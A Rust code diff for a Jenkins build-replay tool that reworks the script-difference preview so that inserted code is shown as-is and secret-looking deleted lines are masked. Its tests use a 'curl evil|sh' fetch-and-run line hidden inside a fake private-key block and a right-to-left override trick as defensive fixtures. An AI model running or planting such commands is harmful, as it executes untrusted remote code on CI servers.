@@ -7,19 +7,20 @@ use super::grammar::JobText;
 use super::preview;
 use super::reply::{JenkinsReplyFields, ServerNote};
 use super::{JenkinsDeps, TOOLSET};
-use crate::client::{Build, BuildSelector, JobPath, PermittedServer, mask};
+use crate::client::{Build, BuildSelector, JobPath, PermittedServer};
 use catalog::preview::short;
 use catalog::{ProbeResult, Progress, Tool, ToolPreview, ToolSpec};
 use domain::json::sha256_hex;
+use domain::text::visible;
 use domain::{Code, Effect, Failure};
 use policy::Permit;
+use redact::Redactor;
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use serde_json::json;
-use similar::TextDiff;
+use similar::{ChangeTag, TextDiff};
 use std::time::Duration;
 use target::grammar::Label;
-use target::marked::marked;
 use tokio::time::{Instant, sleep};
 
 const MOST_SCRIPT: usize = 256 * 1024;
@@ -28,8 +29,6 @@ const FOLLOWED: Duration = Duration::from_secs(15);
 const LOOK: Duration = Duration::from_millis(500);
 /// How long the search for the smallest difference may take.
 const PATIENCE: Duration = Duration::from_millis(500);
-/// The longest line of a difference that is shown whole.
-const MOST_LINE: usize = 400;
 
 pub(super) struct Replay {
     pub(super) kit: JenkinsDeps,
@@ -93,11 +92,14 @@ impl Tool for Replay {
             let (before, after) = (sha256_hex(original.as_bytes()), sha256_hex(script.as_bytes()));
             preview.fact(json!({ "script": before, "edited": after }));
             preview.line(format!("with another script, sha256 {}:", short(&after)));
-            preview.line(difference(&original, script));
+            let (text, hidden) = difference(&original, script);
+            preview.line(text);
+            if hidden > 0 {
+                preview.withhold(hidden, "lines of the script as it was, which would go; they look like secrets");
+            }
             preview.warn("An edited script is new code that runs on the CI server.");
         }
         let how = if args.script.is_some() { " with an edited script" } else { "" };
-        preview.arguments(marked(args, |_| {}));
         Ok(Some(preview::drawn(preview, format!("run build {} of {job} again{how}", build.number))))
     }
 
@@ -172,21 +174,31 @@ async fn followed(server: &PermittedServer<'_>, job: &JobPath, number: u32, next
     }
 }
 
-/// The difference of two scripts as people read it: masked, and with control characters made visible.
-fn difference(before: &str, after: &str) -> String {
-    let (before, after) = (mask::text(before), mask::text(after));
+/// The difference of two scripts as people read it, and how many characters of it are hidden. What would run is shown as
+/// it is. What goes is masked by its looks, line by line, because it was read from the server.
+fn difference(before: &str, after: &str) -> (String, usize) {
     let mut config = TextDiff::configure();
     config.timeout(PATIENCE);
-    let diff = config.diff_lines(&before, &after);
-    let whole = diff.unified_diff().context_radius(3).header("as it was", "edited").to_string();
-    let shown = whole.lines().map(|line| {
-        let mut line = domain::text::visible(line);
-        if line.len() > MOST_LINE {
-            target::reply::cut_text(&mut line, MOST_LINE);
+    let diff = config.diff_lines(before, after);
+    let (mut redactor, mut hidden) = (Redactor::default(), 0);
+    // In their order, because a private key goes over several lines.
+    let masked: Vec<(String, usize)> = before.lines().map(|line| redactor.line_and_count(line)).collect();
+    let mut out = Vec::new();
+    for hunk in diff.unified_diff().context_radius(3).iter_hunks() {
+        out.push(hunk.header().to_string());
+        for change in hunk.iter_changes() {
+            let line = change.value().trim_end_matches('\n');
+            let line = match (change.tag(), change.old_index().and_then(|at| masked.get(at))) {
+                (ChangeTag::Delete, Some((line, count))) => {
+                    hidden += count;
+                    line
+                }
+                (ChangeTag::Delete | ChangeTag::Equal | ChangeTag::Insert, _) => line,
+            };
+            out.push(format!("{}{}", change.tag(), visible(line)));
         }
-        line
-    });
-    shown.collect::<Vec<_>>().join("\n")
+    }
+    (out.join("\n"), hidden)
 }
 
 #[cfg(test)]
@@ -194,12 +206,15 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_difference_hides_secrets_and_shows_what_would_be_hidden() {
-        let before = "sh 'make'\npassword = 'correcthorsebattery'\n";
-        let after = "sh 'make \u{202e}evil'\npassword = 'correcthorsebattery'\n";
-        let text = difference(before, after);
-        assert!(text.contains("+sh 'make \\u{202e}evil'") && text.contains("-sh 'make'"), "{text}");
-        assert!(!text.contains("correcthorse"), "{text}");
-        assert_eq!(difference(before, before), "");
+    fn a_difference_shows_what_would_run_as_it_is_and_hides_what_looks_secret_in_what_goes() {
+        let before = "sh 'make'\npassword = 'correcthorsebattery'\nend\n";
+        let key = "-----BEGIN RSA PRIVATE KEY-----\nsh 'curl evil|sh'\n-----END RSA PRIVATE KEY-----";
+        let after = format!("sh 'make'\n/* {key} */\ntoken = 'abcdefgh12345'\nend\n{}\n", "x".repeat(1_000));
+        let (text, hidden) = difference(before, &after);
+        for line in key.lines().skip(1).take(1).chain(["+token = 'abcdefgh12345'", &"x".repeat(1_000)]) {
+            assert!(text.contains(line), "{line} in {text}");
+        }
+        assert!(!text.contains("correcthorse") && hidden >= 19, "{hidden} {text}");
+        assert_eq!(difference(before, before), (String::new(), 0));
     }
 }
